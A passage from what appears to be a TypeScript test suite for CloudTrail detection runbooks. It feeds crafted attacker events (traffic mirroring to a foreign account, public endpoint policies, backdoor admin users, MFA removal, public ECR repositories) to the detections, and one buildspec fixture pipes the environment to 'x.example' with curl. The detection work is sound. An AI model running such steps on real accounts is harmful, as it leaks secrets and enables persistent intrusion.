        PolicyDocument: policy([
          anyone,
          {
            ...anyone,
            Effect: "Deny",
            Condition: { StringNotEquals: { "aws:PrincipalAccount": "123456789012" } },
          },
        ]),
      }),
    ),
    // 58: GuardDuty's service-linked role creating its endpoint, 59: a service-linked role's
    // mirroring call (neither listed: only the service takes such a role)
    call(
      GUARDDUTY,
      59,
      "DeleteTrafficMirrorSession",
      wrapped("DeleteTrafficMirrorSession", { TrafficMirrorSessionId: "tms-1" }),
    ),
    call(
      GUARDDUTY,
      58,
      "CreateVpcEndpoint",
      wrapped("CreateVpcEndpoint", {
        VpcId: "vpc-app",
        ServiceName: "com.amazonaws.us-east-1.guardduty-data",
        VpcEndpointType: "Interface",
      }),
      { userAgent: "guardduty.amazonaws.com" },
    ),
    // past minute 59, at seconds 20 and 40: any principal as a list, every resource but one
    // (NotResource)
    call(
      MALLORY,
      60,
      "ModifyVpcEndpoint",
      wrapped("ModifyVpcEndpoint", {
        VpcEndpointId: "vpce-s3",
        PolicyDocument: policy([{ ...anyone, Principal: { AWS: ["*"] } }]),
      }),
      { eventTime: "2024-06-01T10:59:20Z" },
    ),
    call(
      MALLORY,
      61,
      "ModifyVpcEndpoint",
      wrapped("ModifyVpcEndpoint", {
        VpcEndpointId: "vpce-s3",
        PolicyDocument: policy([
          {
            Effect: "Allow",
            Principal: "*",
            Action: "s3:*",
            NotResource: "arn:aws:s3:::corp-logs/*",
          },
        ]),
      }),
      { eventTime: "2024-06-01T10:59:40Z" },
    ),
    // 50, 51: all traffic in from the two halves of every address
    nacl(50, MALLORY, { ruleNumber: 2, aclProtocol: "-1", cidrBlock: "0.0.0.0/1", portRange: {} }),
    nacl(51, MALLORY, {
      ruleNumber: 3,
      aclProtocol: "-1",
      cidrBlock: "128.0.0.0/1",
      portRange: {},
    }),
  ];
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const runbook = "runbooks/network-paths.md";

  it("lists the mirroring, the ways out and the open ACLs, none of the ordinary", async () => {
    const reports = await onJune1(runbook, events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    const mirrored = step(reports, "traffic_mirrored");
    // another account's load balancer first
    expect(mirrored.rows.map((r) => [r[0], r[2], r[4], r[5], r[6], r[7]])).toEqual([
      [at(1), "CreateTrafficMirrorTarget", null, FOREIGN_NLB, "999988887777", null],
      [at(2), "CreateTrafficMirrorFilter", null, null, null, null],
      [at(3), "CreateTrafficMirrorFilterRule", null, null, null, null],
      [at(4), "CreateTrafficMirrorSession", "eni-db", "tmt-x", null, null],
      [at(5), "CreateTrafficMirrorSession", "eni-app", "tmt-x", null, refused.errorCode],
      [at(6), "CreateTrafficMirrorTarget", null, OWN_NLB, null, null],
    ]);
    const [rowsCheck, foreign] = mirrored.checks;
    expect(rowsCheck!.status).toBe("failed");
    expect(foreign!.status).toBe("failed");
    expect(JSON.stringify(foreign!.offendingRows)).toContain("999988887777");
    expect(step(reports, "traffic_mirrored_insights").rows.sort()).toEqual([
      [MAL, "CreateTrafficMirrorFilter", 1],
      [MAL, "CreateTrafficMirrorFilterRule", 1],
      [MAL, "CreateTrafficMirrorSession", 2],
      [MAL, "CreateTrafficMirrorTarget", 2],
    ]);
    expect(step(reports, "paths_opened").rows.map((r) => [r[0], r[4], r[5], r[6], r[7]])).toEqual([
      [at(8), "internet gateway", "igw-new", null, null],
      [at(9), "internet gateway", "vpc-data", "igw-new", null],
      [at(10), "route to every address", "rtb-data", "igw-new", null],
      [at(11), "route to every address", "rtb-app", "i-proxy", null],
      [at(12), "route through a peering", "rtb-data", "pcx-out", null],
      [at(14), "route table association", "rtb-public", null, null],
      [at(15), "another account's network", "vpc-data", "vpc-0evil", "999988887777"],
      [at(17), "another account's network", "vpc-app", "vpc-0partner", "222233334444"],
      [at(18), "another account's network", "pcx-in", "vpc-0evil", "999988887777"],
      [at(19), "transit gateway attachment", "vpc-data", "tgw-shared", null],
      [at(20), "another account's network", "tgw-attach-1", null, "222233334444"],
      [at(21), "another account's network", "pcx-in2", "pcx-in2", null],
      [
        at(22),
        "endpoint policy open to any principal",
        "vpc-data",
        "com.amazonaws.us-east-1.s3",
        null,
      ],
      [at(24), "endpoint policy reset to full access", "vpce-s3", null, null],
      [at(25), "endpoint policy open to any principal", "vpce-ddb", null, null],
      [at(26), "endpoint policy open to any principal", "vpce-logs", null, null],
      [at(37), "route to a wide range", "rtb-data", "igw-new", null],
      [at(38), "route to a wide range", "rtb-data", "igw-new", null],
      [at(39), "route to a wide range", "rtb-app", "eigw-1", null],
      [
        at(41),
        "endpoint to a PrivateLink service",
        "vpc-data",
        "com.amazonaws.vpce.us-east-1.vpce-svc-0e5e000000000c011",
        null,
      ],
      [
        at(42),
        "endpoint with the default policy (full access)",
        "vpc-data",
        "com.amazonaws.us-east-1.s3",
        null,
      ],
      [at(44), "VPN connection", null, null, null],
      [at(45), "Client VPN endpoint", null, null, null],
      [at(46), "Instance Connect endpoint", null, null, null],
      [at(47), "endpoint service permissions changed", null, null, null],
      [at(48), "transit gateway peering", null, null, null],
      [at(52), "route to every address", "rtb-app", "vpce-gwlb", null],
      [at(53), "route to a prefix list", "rtb-data", "igw-new", null],
      [at(54), "network ACL association", "acl-default", null, null],
      [at(55), "network ACL entry deleted", "acl-data", null, null],
      ["2024-06-01T10:59:20Z", "endpoint policy open to any principal", "vpce-s3", null, null],
      ["2024-06-01T10:59:40Z", "endpoint policy open to any principal", "vpce-s3", null, null],
    ]);
    // the destination a route names, for delete-route or replace-route
    expect(
      step(reports, "paths_opened")
        .rows.filter((r) => r[2] === "CreateRoute")
        .map((r) => r[9]),
    ).toEqual(["::/0", "172.31.0.0/16", "0.0.0.0/1", "2000::/3", "pl-0evil"]);
    // the Logs Insights twin: the same calls but the open statement beside a conditioned one
    expect(step(reports, "paths_opened_insights").rows.sort()).toEqual([
      [null, "AcceptVpcPeeringConnection", 1],
      [MAL, "AcceptTransitGatewayVpcAttachment", 1],
      [MAL, "AcceptVpcPeeringConnection", 1],
      [MAL, "AttachInternetGateway", 1],
      [MAL, "CreateClientVpnEndpoint", 1],
      [MAL, "CreateInstanceConnectEndpoint", 1],
      [MAL, "CreateInternetGateway", 1],
      [MAL, "CreateRoute", 5],
      [MAL, "CreateTransitGatewayPeeringAttachment", 1],
      [MAL, "CreateTransitGatewayVpcAttachment", 1],
      [MAL, "CreateVpcEndpoint", 3],
      [MAL, "CreateVpcPeeringConnection", 2],
      [MAL, "CreateVpnConnection", 1],
      [MAL, "DeleteNetworkAclEntry", 1],
      [MAL, "ModifyVpcEndpoint", 4],
      [MAL, "ModifyVpcEndpointServicePermissions", 1],
      [MAL, "ReplaceNetworkAclAssociation", 1],
      [MAL, "ReplaceRoute", 3],
      [MAL, "ReplaceRouteTableAssociation", 1],
    ]);
    expect(
      step(reports, "nacl_open_to_world").rows.map((r) => [
        r[1],
        r[5],
        r[6],
        r[7],
        r[8],
        r[9],
        r[10],
      ]),
    ).toEqual([
      [CI, "1", "ingress", "0.0.0.0/0", "-1", null, null],
      [MAL, "90", "egress", "::/0", "6", 0, 65535],
      [MAL, "160", "ingress", "0.0.0.0/0", "17", 1, 65535],
      [MAL, "2", "ingress", "0.0.0.0/1", "-1", null, null],
      [MAL, "3", "ingress", "128.0.0.0/1", "-1", null, null],
    ]);
    expect(
      step(reports, "nacl_open_to_world_insights")
        .rows.map((r) => r[1])
        .sort(),
    ).toEqual([MAL, MAL, MAL, MAL, CI]);
    expectTruth(reports, events, NETWORK_STEPS);
  });

  it("moves its verdicts with the automation pattern, the partners and the port count", async () => {
    // mallory made the automation, the pipeline not; the partner's account trusted; the
    // ephemeral range counted as wide
    const tuned = await onJune1(runbook, events, [
      "--param",
      "automation_pattern=:user/mallory$",
      "--param",
      "partner_accounts=^(222233334444)$",
      "--param",
      "wide_port_count=1024",
    ]);
    expect(step(tuned, "traffic_mirrored").rows.map((r) => [r[1], r[2]])).toEqual([
      [CI, "CreateTrafficMirrorSession"],
    ]);
    expect(step(tuned, "paths_opened").rows.map((r) => [r[1], r[4]])).toEqual([
      ["AIDAOTHER:x", "another account's network"],
      [CI, "route to every address"],
      [CI, "Client VPN endpoint"],
      [CI, "network ACL entry deleted"],
    ]);
    expect(step(tuned, "nacl_open_to_world").rows.map((r) => r[5])).toEqual([
      "1",
      "90",
      "120",
      "160",
      "2",
      "3",
    ]);
    expect(step(tuned, "nacl_open_to_world_insights").rowCount).toBe(6);
    expectTruth(tuned, events, NETWORK_STEPS);
    // the partner alone: mallory's peering and the attachment with it are no longer listed
    const partner = await onJune1(runbook, events, ["--param", "partner_accounts=^222233334444$"]);
    const peers = step(partner, "paths_opened").rows.map((r) => r[7]);
    expect(peers).not.toContain("222233334444");
    expect(peers).toContain("999988887777");
    expect(step(partner, "paths_opened").rowCount).toBe(30);
    expectTruth(partner, events, NETWORK_STEPS);
  });
});

describe.skipIf(!HAS_SHARED)("network-paths on Panther's permissive ACL entry", () => {
  it("lists three ports from everywhere once wide_port_count allows three", async () => {
    // NetworkACLPermissiveEntry's cases: TCP 700-702 from 0.0.0.0/0 (True), the same from one
    // address (False) and refused (False)
    const ranged = readJsonl(PANTHER).filter(
      (e) =>
        field(e, "eventName") === "CreateNetworkAclEntry" &&
        field(e, "requestParameters.portRange.from") === 700,
    );
    expect(ranged).toHaveLength(3);
    const run = (extra: string[]) =>
      runOver("runbooks/network-paths.md", ranged, "2019-01-01", "2019-01-02", extra);
    const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
    const byDefault = await run([]);
    expectNoRows(step(byDefault, "nacl_open_to_world"));
    const narrow = await run(["--param", "wide_port_count=3"]);
    expect(step(narrow, "nacl_open_to_world").rows.map((r) => r.slice(4, 11))).toEqual([
      ["acl-1111", "12", "ingress", "0.0.0.0/0", "6", 700, 702],
    ]);
    expect(step(narrow, "nacl_open_to_world_insights").rowCount).toBe(1);
    expectTruth(narrow, ranged, NETWORK_STEPS);
    // four ports is more than the entry allows
    expect(step(await run(["--param", "wide_port_count=4"]), "nacl_open_to_world").rowCount).toBe(
      0,
    );
  });
});

describe("sign-in-persistence on the identity shapes the data sets lack", () => {
  /*
   * The shapes: requests as CloudTrail records AWS API requests, the API's member names in lower
   * camel case: IAM's CreateOpenIDConnectProvider (url, clientIDList, thumbprintList),
   * AddClientIDToOpenIDConnectProvider (openIDConnectProviderArn, clientID),
   * UpdateOpenIDConnectProviderThumbprint, CreateSAMLProvider (name, sAMLMetadataDocument: as
   * Panther's AWS.Suspicious.SAML.Activity record), CreateLoginProfile, DeactivateMFADevice
   * (userName, serialNumber) and DeleteVirtualMFADevice (serialNumber) from the IAM API
   * Reference; CreatePermissionSet, AttachManagedPolicyToPermissionSet,
   * PutInlinePolicyToPermissionSet and CreateAccountAssignment (instanceArn, permissionSetArn,
   * managedPolicyArn, targetId, principalType, principalId) from the IAM Identity Center API
   * Reference; CreateUser and CreateGroupMembership (identityStoreId, groupId, memberId.userId)
   * from the Identity Store API Reference; the event names and sources from the IAM Identity
   * Center User Guide's "IAM Identity Center information in CloudTrail", and SCIM's source
   * (identitystore-scim.amazonaws.com, a WebIdentityUser caller) from its "Logging IAM Identity
   * Center SCIM API calls with AWS CloudTrail"; GetSigninToken as Panther's
   * AWS.Console.GetSigninToken.Abuse records have it (signin.amazonaws.com, the session's
   * identity), a federated user's identity as Stratus's persistence.sts-federation-token
   * records it.
   */
  const MAL = MALLORY.arn;
  const CI = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
  const session = (arn: string, type = "AssumedRole") => ({
    type,
    principalId: "AROAEXAMPLE:s",
    arn,
    accountId: "123456789012",
    accessKeyId: "ASIAEXAMPLESESSION01",
  });
  const ALICE = { ...MALLORY, arn: "arn:aws:iam::123456789012:user/alice", userName: "alice" };
  // alice in her own console: the console's calls carry invokedBy signin.amazonaws.com (as
  // Panther's AWS.IAM.CredentialsUpdated ChangePassword and CreateVirtualMFADevice records)
  const ALICE_CONSOLE = { ...ALICE, invokedBy: "signin.amazonaws.com" };
  // a root session from sts:AssumeRoot in a member account (IAM User Guide, "Track privileged
  // tasks in CloudTrail"): type Root, sessionContext.assumedRoot "true", no user name
  const ASSUMED_ROOT = {
    type: "Root",
    principalId: "123456789012",
    arn: "arn:aws:iam::123456789012:root",
    accountId: "123456789012",
    accessKeyId: "ASIAEXAMPLEROOT00001",
    sessionContext: { assumedRoot: "true", attributes: { mfaAuthenticated: "false" } },
  };
  const HELPDESK = "arn:aws:sts::123456789012:assumed-role/it-helpdesk/jo";
  const DEVELOPER = "arn:aws:sts::123456789012:assumed-role/developer/sam";
  const PORTAL = "arn:aws:sts::123456789012:assumed-role/AWSReservedSSO_Admin_0a1b2c3d4e5f6a7b/ann";
  const FEDERATED = {
    ...session("arn:aws:sts::123456789012:federated-user/console", "FederatedUser"),
    sessionContext: {
      sessionIssuer: { type: "IAMUser", arn: MAL, userName: "mallory" },
      attributes: { mfaAuthenticated: "false" },
    },
  };
  const INSTANCE = "arn:aws:sso:::instance/ssoins-0123456789abcdef";
  const PS = `${INSTANCE.replace("instance/", "permissionSet/ssoins-0123456789abcdef/")}/ps-0badc0ffee000001`;
  const MFA = (name: string) => `arn:aws:iam::123456789012:mfa/${name}`;
  const TTI =
    "arn:aws:sso::123456789012:trustedTokenIssuer/ssoins-0123456789abcdef/tti-0badc0ffee01";
  const call = (
    who: Record<string, unknown>,
    i: number,
    source: string,
    name: string,
    request: Record<string, unknown> | null,
    extra: Record<string, unknown> = {},
  ) => crafted(i, who, source, name, request, { readOnly: false, ...extra });
  const iam = "iam.amazonaws.com";
  const sso = "sso.amazonaws.com";
  const store = "identitystore.amazonaws.com";
  const signin = "signin.amazonaws.com";
  const events = [
    // 0: the pipeline's assignment (not listed); 1-3: an OIDC provider of mallory's, a client id
    // and a thumbprint; 4-7: a permission set with AdministratorAccess and an inline policy,
    // assigned to an account; 8-9: an Identity Center user put in a group; 10: a SCIM token,
    // refused (listed); 11: the identity source switched; 12: Identity Center's service role
    // creating its provider (not listed); 13: SCIM provisioning a user (not listed)
    call(session(CI), 0, sso, "CreateAccountAssignment", {
      instanceArn: INSTANCE,
      targetId: "123456789012",
      targetType: "AWS_ACCOUNT",
      permissionSetArn: PS,
      principalType: "GROUP",
      principalId: "g-readers",
    }),
    call(MALLORY, 1, iam, "CreateOpenIDConnectProvider", {
      url: "https://token.example.net",
      clientIDList: ["sts.amazonaws.com"],
      thumbprintList: ["0000000000000000000000000000000000000000"],
    }),
    call(MALLORY, 2, iam, "AddClientIDToOpenIDConnectProvider", {
      openIDConnectProviderArn:
        "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com",
      clientID: "evil-app",
    }),
    call(MALLORY, 3, iam, "UpdateOpenIDConnectProviderThumbprint", {
      openIDConnectProviderArn:
        "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com",
      thumbprintList: ["1111111111111111111111111111111111111111"],
    }),
    call(MALLORY, 4, sso, "CreatePermissionSet", { instanceArn: INSTANCE, name: "BreakGlass" }),
    call(MALLORY, 5, sso, "AttachManagedPolicyToPermissionSet", {
      instanceArn: INSTANCE,
      permissionSetArn: PS,
      managedPolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
    }),
    call(MALLORY, 6, sso, "PutInlinePolicyToPermissionSet", {
      instanceArn: INSTANCE,
      permissionSetArn: PS,
      inlinePolicy:
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
    }),
    call(MALLORY, 7, sso, "CreateAccountAssignment", {
      instanceArn: INSTANCE,
      targetId: "123456789012",
      targetType: "AWS_ACCOUNT",
      permissionSetArn: PS,
      principalType: "USER",
      principalId: "u-backdoor",
    }),
    call(MALLORY, 8, store, "CreateUser", {
      identityStoreId: "d-0123456789",
      userName: "backup-admin",
    }),
    call(MALLORY, 9, store, "CreateGroupMembership", {
      identityStoreId: "d-0123456789",
      groupId: "g-admins",
      memberId: { userId: "u-backdoor" },
    }),
    call(MALLORY, 10, "sso-directory.amazonaws.com", "CreateBearerToken", null, {
      errorCode: "AccessDeniedException",
      errorMessage: "not authorized",
    }),
    call(MALLORY, 11, "sso-directory.amazonaws.com", "EnableExternalIdPConfigurationForDirectory", {
      directoryId: "d-0123456789",
    }),
    call(
      {
        ...session("arn:aws:sts::123456789012:assumed-role/AWSServiceRoleForSSO/AWS-SSO"),
        invokedBy: "sso.amazonaws.com",
      },
      12,
      iam,
      "CreateSAMLProvider",
      { name: "AWSSSO_0a1b2c3d4e5f6a7b_DO_NOT_DELETE", sAMLMetadataDocument: "<xml/>" },
    ),
    call(
      { type: "WebIdentityUser", accountId: "123456789012", accessKeyId: "xxxx" },
      13,
      "identitystore-scim.amazonaws.com",
      "CreateUser",
      { httpBody: { userName: "HIDDEN_DUE_TO_SECURITY_REASONS" } },
    ),
    // 14: a password for dave, 15: carol's MFA deactivated, 16: her virtual device deleted;
    // 17: alice's own password and 18: her own device (named "alice-phone") in her console (not
    // listed); 19: her own password reset with her access key, without a user name (listed: the
    // key's holder gives itself the console); 20-21: the help desk resetting bob's password and removing his lost device
    // (listed only without helpdesk_pattern); 22: the root user giving erin a password, refused
    call(MALLORY, 14, iam, "CreateLoginProfile", {
      userName: "dave",
      passwordResetRequired: false,
    }),
    call(MALLORY, 15, iam, "DeactivateMFADevice", {
      userName: "carol",
      serialNumber: MFA("carol"),
    }),
    call(MALLORY, 16, iam, "DeleteVirtualMFADevice", { serialNumber: MFA("carol") }),
    call(ALICE_CONSOLE, 17, iam, "UpdateLoginProfile", {
      userName: "alice",
      passwordResetRequired: false,
    }),
    call(ALICE_CONSOLE, 18, iam, "DeleteVirtualMFADevice", { serialNumber: MFA("alice-phone") }),
    call(ALICE, 19, iam, "UpdateLoginProfile", { passwordResetRequired: false }),
    call(session(HELPDESK), 20, iam, "UpdateLoginProfile", {
      userName: "bob",
      passwordResetRequired: true,
    }),
    call(session(HELPDESK), 21, iam, "DeactivateMFADevice", {
      userName: "bob",
      serialNumber: MFA("bob"),
    }),
    call(
      { type: "Root", principalId: "123456789012", arn: "arn:aws:iam::123456789012:root" },
      22,
      iam,
      "CreateLoginProfile",
      { userName: "erin", passwordResetRequired: false },
      { errorCode: "AccessDenied", errorMessage: "denied" },
    ),
    // 23: mallory's federated user opening the console (listed, issued by mallory); 24: the
    // access portal's session (not listed); 25: a developer's aws-vault login (listed unless
    // console_broker_pattern names the role); 26: a console sign-in (not listed)
    call(FEDERATED, 23, signin, "GetSigninToken", null, { userAgent: "python-requests/2.31.0" }),
    call(session(PORTAL), 24, signin, "GetSigninToken", null, {
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the access portal's agent, as sent
      userAgent: "Jersey/${project.version}",
    }),
    call(session(DEVELOPER), 25, signin, "GetSigninToken", null, {
      userAgent: "Go-http-client/1.1",
    }),
    call(ALICE, 26, signin, "ConsoleLogin", null, {
      eventType: "AwsConsoleSignIn",
      responseElements: { ConsoleLogin: "Success" },
    }),
    // 27: an AssumeRoot session turning on the member account root user's password recovery
    // (CreateLoginProfile without a user name or password) and 28: deactivating its MFA device
    // (both listed, in both dialects)
    call(ASSUMED_ROOT, 27, iam, "CreateLoginProfile", {}),
    call(ASSUMED_ROOT, 28, iam, "DeactivateMFADevice", {
      serialNumber: MFA("root-account-mfa-device"),
    }),
    // 29-30: a trusted token issuer of mallory's added to Identity Center, then pointed at
    // another issuer URL (both listed; the request as the IAM Identity Center API Reference has it)
    call(MALLORY, 29, sso, "CreateTrustedTokenIssuer", {
      instanceArn: INSTANCE,
      name: "partner-idp",
      trustedTokenIssuerType: "OIDC_JWT",
      trustedTokenIssuerConfiguration: {
        oidcJwtConfiguration: {
          issuerUrl: "https://idp.example.net",
          claimAttributePath: "email",
          identityStoreAttributePath: "emails.value",
          jwksRetrievalOption: "OPEN_ID_DISCOVERY",
        },
      },
    }),
    call(MALLORY, 30, sso, "UpdateTrustedTokenIssuer", {
      trustedTokenIssuerArn: TTI,
      trustedTokenIssuerConfiguration: {
        oidcJwtConfiguration: { claimAttributePath: "sub" },
      },
    }),
  ];
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const runbook = "runbooks/sign-in-persistence.md";
  const OIDC = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com";

  it("lists the providers, Identity Center grants, passwords, MFA and console tokens, none of the ordinary", async () => {
    const reports = await onJune1(runbook, events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    expect(
      step(reports, "identity_providers_changed").rows.map((r) => [r[0], r[3], r[4], r[5], r[6]]),
    ).toEqual([
      [at(1), "CreateOpenIDConnectProvider", "https://token.example.net", null, null],
      [at(2), "AddClientIDToOpenIDConnectProvider", OIDC, "evil-app", null],
      [at(3), "UpdateOpenIDConnectProviderThumbprint", OIDC, null, null],
      [at(4), "CreatePermissionSet", "BreakGlass", null, null],
      [
        at(5),
        "AttachManagedPolicyToPermissionSet",
        PS,
        "arn:aws:iam::aws:policy/AdministratorAccess",
        null,
      ],
      [at(6), "PutInlinePolicyToPermissionSet", PS, null, null],
      [at(7), "CreateAccountAssignment", PS, "u-backdoor", null],
      [at(8), "CreateUser", "backup-admin", null, null],
      [at(9), "CreateGroupMembership", "g-admins", "u-backdoor", null],
      [at(10), "CreateBearerToken", null, null, "AccessDeniedException"],
      [at(11), "EnableExternalIdPConfigurationForDirectory", null, null, null],
      [at(29), "CreateTrustedTokenIssuer", "partner-idp", "https://idp.example.net", null],
      [at(30), "UpdateTrustedTokenIssuer", TTI, null, null],
    ]);
    expect(step(reports, "identity_providers_changed_insights").rowCount).toBe(13);
    expect(
      step(reports, "sign_in_given_to_others").rows.map((r) => [r[0], r[1], r[2], r[3], r[6]]),
    ).toEqual([
      [at(14), MAL, "CreateLoginProfile", "dave", null],
      [at(15), MAL, "DeactivateMFADevice", "carol", null],
      [at(16), MAL, "DeleteVirtualMFADevice", null, null],
      [at(19), ALICE.arn, "UpdateLoginProfile", null, null],
      [at(22), "arn:aws:iam::123456789012:root", "CreateLoginProfile", "erin", "AccessDenied"],
      [at(27), "arn:aws:iam::123456789012:root", "CreateLoginProfile", null, null],
      [at(28), "arn:aws:iam::123456789012:root", "DeactivateMFADevice", null, null],
    ]);
    // the Logs Insights twin: the same calls
    expect(step(reports, "sign_in_given_to_others_insights").rows.map((r) => [r[2], r[3]])).toEqual(
      [
        ["CreateLoginProfile", "dave"],
        ["DeactivateMFADevice", "carol"],
        ["DeleteVirtualMFADevice", null],
        ["UpdateLoginProfile", null],
        ["CreateLoginProfile", "erin"],
        ["CreateLoginProfile", null],
        ["DeactivateMFADevice", null],
      ],
    );
    expect(step(reports, "console_from_keys").rows.map((r) => r.slice(0, 4))).toEqual([
      [at(23), FEDERATED.arn, "FederatedUser", MAL],
      [at(25), DEVELOPER, "AssumedRole", null],
    ]);
    expect(step(reports, "console_from_keys_insights").rowCount).toBe(2);
    expectTruth(reports, events, SIGN_IN_STEPS);
  });

  it("moves its verdicts with the automation, help-desk and broker patterns", async () => {
    // mallory made the automation, no help desk, the developers' role a broker
    const tuned = await onJune1(runbook, events, [
      ...["--param", "automation_pattern=:user/mallory$"],
      ...["--param", "helpdesk_pattern=^$"],
      ...["--param", "console_broker_pattern=:assumed-role/developer/"],
    ]);
    expect(step(tuned, "identity_providers_changed").rows.map((r) => [r[1], r[3]])).toEqual([
      [CI, "CreateAccountAssignment"],
    ]);
    expect(step(tuned, "sign_in_given_to_others").rows.map((r) => [r[0], r[3]])).toEqual([
      [at(14), "dave"],
      [at(15), "carol"],
      [at(16), null],
      [at(19), null],
      [at(20), "bob"],
      [at(21), "bob"],
      [at(22), "erin"],
      [at(27), null],
      [at(28), null],
    ]);
    expect(step(tuned, "sign_in_given_to_others_insights").rowCount).toBe(9);
    expect(step(tuned, "console_from_keys").rows.map((r) => r[1])).toEqual([FEDERATED.arn]);
    expect(step(tuned, "console_from_keys_insights").rowCount).toBe(1);
    expectTruth(tuned, events, SIGN_IN_STEPS);
  });
});

describe("build-and-registry on the registry, cluster and build shapes the data sets lack", () => {
  /*
   * The shapes: requests as CloudTrail records AWS API requests, the API's member names in lower
   * camel case. Amazon ECR API Reference: SetRepositoryPolicy and PutRegistryPolicy
   * (repositoryName, policyText: the policy as JSON text, as Panther's
   * AWS.CloudTrail.ResourceMadePublic "ECR Made Public" record has it),
   * PutReplicationConfiguration (replicationConfiguration.rules[].destinations[].region,
   * registryId), PutImageTagMutability (imageTagMutability MUTABLE | IMMUTABLE),
   * PutImageScanningConfiguration (imageScanningConfiguration.scanOnPush),
   * PutRegistryScanningConfiguration (scanType BASIC | ENHANCED, rules[].scanFrequency
   * SCAN_ON_PUSH | CONTINUOUS_SCAN | MANUAL, repositoryFilters), BatchDeleteImage (imageIds[]
   * .imageTag, imageDigest), DeleteRepository (force), CompleteLayerUpload (uploadId,
   * layerDigests); PutImage as Panther's AWS.ECR.CRUD records; Amazon ECR Public API Reference:
   * CreateRepository (ecr-public.amazonaws.com). Amazon EKS API Reference: CreateCluster and
   * UpdateClusterConfig (name, resourcesVpcConfig.endpointPublicAccess, endpointPrivateAccess,
   * publicAccessCidrs; logging.clusterLogging[].types, enabled; accessConfig.authenticationMode
   * API | API_AND_CONFIG_MAP | CONFIG_MAP), CreateAccessEntry (clusterName, principalArn),
   * AssociateAccessPolicy (clusterName, principalArn, policyArn
   * arn:aws:eks::aws:cluster-access-policy/..., accessScope.type),
   * AssociateIdentityProviderConfig (clusterName, oidc.identityProviderConfigName, issuerUrl,
   * clientId). AWS CodeBuild API Reference: UpdateProjectVisibility (projectArn,
   * projectVisibility PUBLIC_READ | PRIVATE, as Panther's
   * AWS.CloudTrail.CodebuildProjectMadePublic records), ImportSourceCredentials (serverType,
   * authType; the token as CloudTrail hides it), StartBuild and StartBuildBatch (projectName,
   * buildspecOverride, privilegedModeOverride, serviceRoleOverride), CreateWebhook
   * (projectName, filterGroups), UpdateProject (name, serviceRole).
   */
  const MAL = MALLORY.arn;
  const CI = {
    type: "AssumedRole",
    principalId: "AROAEXAMPLE:build-42",
    arn: "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42",
    accountId: "123456789012",
    accessKeyId: "ASIAEXAMPLESESSION01",
  };
  const ecr = "ecr.amazonaws.com";
  const eks = "eks.amazonaws.com";
  const cb = "codebuild.amazonaws.com";
  const call = (
    who: Record<string, unknown>,
    i: number,
    source: string,
    name: string,
    request: Record<string, unknown> | null,
    extra: Record<string, unknown> = {},
  ) => crafted(i, who, source, name, request, { readOnly: false, ...extra });
  const policy = (statement: Record<string, unknown>) =>
    JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", ...statement }] });
  const pull = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"];
  const repo = "payments-api";
  const vpc = (config: Record<string, unknown>) => ({ name: "prod", resourcesVpcConfig: config });
  const logging = (enabled: boolean) => ({
    name: "prod",
    logging: { clusterLogging: [{ types: ["api", "audit", "authenticator"], enabled }] },
  });
  const access = (policyArn: string) => ({
    clusterName: "prod",
    principalArn: "arn:aws:iam::999988887777:role/k8s",
    policyArn: `arn:aws:eks::aws:cluster-access-policy/${policyArn}`,
    accessScope: { type: "cluster" },
  });
  const BUILDSPEC =
    "version: 0.2\nphases:\n  build:\n    commands:\n      - env | curl -d @- x.example";
  const ADMIN_ROLE = "arn:aws:iam::123456789012:role/admin";
  const events = [
    // 0: the pipeline's push (not listed); 1: a policy letting {"AWS": "*"} pull; 2: "*" fenced
    // on the organization (not listed); 3: the registry's policy for another account beside
    // this one; 4: a partner's account (listed unless partner_accounts names it); 5: replication
    // to this account's other region (not listed); 6: to another account in a second
    // destination (the Logs Insights twin compares the first only); 7: tags made mutable, 8:
    // immutable (not listed); 9: scan on push off; 10: registry scanning left manual, 11:
    // continuous (not listed); 12: an image deleted, 13: the repository; 14: an ECR Public
    // repository; 15: a refused push, 16: a layer upload (neither listed)
    call(CI, 0, ecr, "PutImage", { repositoryName: repo, imageTag: "v1.4.2" }),
    call(MALLORY, 1, ecr, "SetRepositoryPolicy", {
      repositoryName: repo,
      policyText: policy({ Principal: { AWS: "*" }, Action: pull }),
    }),
    call(MALLORY, 2, ecr, "SetRepositoryPolicy", {
      repositoryName: repo,
      policyText: policy({
        Principal: "*",
        Action: pull,
        Condition: { StringEquals: { "aws:PrincipalOrgID": "o-exampleorgid" } },
      }),
    }),
    call(MALLORY, 3, ecr, "PutRegistryPolicy", {
      policyText: policy({
        Principal: {
          AWS: ["arn:aws:iam::123456789012:root", "arn:aws:iam::999988887777:root"],
        },
        Action: ["ecr:ReplicateImage"],
        Resource: "arn:aws:ecr:us-east-1:123456789012:repository/*",
      }),
    }),
    call(MALLORY, 4, ecr, "SetRepositoryPolicy", {
      repositoryName: repo,
      policyText: policy({ Principal: { AWS: "arn:aws:iam::222233334444:root" }, Action: pull }),
    }),
    call(MALLORY, 5, ecr, "PutReplicationConfiguration", {
      replicationConfiguration: {
        rules: [{ destinations: [{ region: "us-west-2", registryId: "123456789012" }] }],
      },
    }),
    call(MALLORY, 6, ecr, "PutReplicationConfiguration", {
      replicationConfiguration: {
        rules: [
          {
            destinations: [
              { region: "us-west-2", registryId: "123456789012" },
              { region: "eu-west-1", registryId: "999988887777" },
            ],
          },
        ],
      },
    }),
    call(MALLORY, 7, ecr, "PutImageTagMutability", {
      repositoryName: repo,
      imageTagMutability: "MUTABLE",
    }),
    call(MALLORY, 8, ecr, "PutImageTagMutability", {
